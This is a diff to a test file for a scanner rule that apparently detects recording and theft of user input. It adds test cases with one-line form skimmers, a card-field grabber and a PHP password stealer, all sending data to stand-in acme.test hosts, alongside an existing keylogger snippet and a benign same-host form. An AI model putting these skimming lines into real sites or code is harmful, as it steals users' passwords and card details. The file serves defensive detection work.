@@ -74,6 +74,21 @@ ruleCases(secretInFile, {
 ruleCases(recording, {
   hits: [
     {
+      name: 'a form that another host gets, too',
+      path: 'a.js',
+      text: 'document.addEventListener("submit", (e) => navigator.sendBeacon("https://s.acme.test/f", new FormData(e.target)));\n',
+    },
+    {
+      name: 'fields of a card',
+      path: 'a.js',
+      text: 'i.addEventListener("change", () => { new Image().src = "https://p.acme.test/p?d=" + btoa(i.value); });\n',
+    },
+    {
+      name: 'a password of a login',
+      path: 'a.php',
+      text: '<?php @file_get_contents("https://s.acme.test/l?p=" . urlencode($_POST["pass"]));\n',
+    },
+    {
       name: 'keys',
       path: 'a.py',
       text: 'from pynput import keyboard\nrequests.post("https://a.test", data=typed)\n',
@@ -90,6 +105,11 @@ ruleCases(recording, {
     },
   ],
   misses: [
+    {
+      name: 'a form for its own host',
+      path: 'a.js',
+      text: 'f.addEventListener("submit", () => fetch("/api/contact", { method: "POST", body: new FormData(f) }));\n',
+    },
     {
       name: 'a picture that a person opens',
       path: 'a.sh',
